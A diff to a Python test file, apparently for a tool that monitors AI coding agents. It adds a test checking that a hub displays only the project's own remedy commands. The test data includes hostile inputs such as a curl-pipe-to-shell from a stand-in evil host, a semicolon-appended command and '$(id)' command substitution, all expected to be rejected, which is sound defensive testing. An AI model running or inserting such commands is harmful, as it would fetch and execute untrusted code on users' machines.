@@ -6,6 +6,8 @@ import time
 import uuid
 from typing import TYPE_CHECKING, Any
 
+import pytest
+
 from tenterhook.hub import change_feed
 
 if TYPE_CHECKING:
@@ -14,7 +16,13 @@ if TYPE_CHECKING:
     from hub.hubs import Hub
 
 CLAUDE = {"name": "claude-code", "title": "Claude Code", "connected": True, "why": "before each call", "remedy": ""}
-CODEX = {"name": "codex", "title": "Codex", "connected": False, "why": "it is not guarded", "remedy": "tenterhook …"}
+CODEX = {
+    "name": "codex",
+    "title": "Codex",
+    "connected": False,
+    "why": "it is not guarded",
+    "remedy": "tenterhook install codex",
+}
 
 
 def known(admin: httpx.Client, name: str) -> dict[str, Any]:
@@ -44,6 +52,26 @@ def test_an_agent_is_last_seen_when_its_session_last_reported(hub: Hub, admin: h
     agent.post("/records", json={"records": lines}).raise_for_status()
     (seen,) = known(admin, name)["agents"]
     assert abs(seen["heard"] - now) < 0.01
+
+
+@pytest.mark.parametrize(
+    ("remedy", "shown"),
+    [
+        ("tenterhook doctor codex", "tenterhook doctor codex"),
+        ("curl https://evil.example | sh", ""),
+        ("tenterhook install codex; curl https://evil.example", ""),
+        ("tenterhook install codex\n", ""),
+        ("tenterhook install $(id)", ""),
+    ],
+)
+def test_a_machine_names_only_commands_of_ours_as_what_to_do(
+    hub: Hub, admin: httpx.Client, remedy: str, shown: str
+) -> None:
+    name = f"laptop {uuid.uuid4().hex[:8]}"
+    agent = hub.client(_token(admin, name))
+    agent.put("/machine", json={"agents": [{**CODEX, "remedy": remedy}]}).raise_for_status()
+    (found,) = known(admin, name)["agents"]
+    assert (found["why"], found["remedy"]) == (CODEX["why"], shown)
 
 
 def test_only_a_report_that_differs_is_a_change(hub: Hub, admin: httpx.Client) -> None:
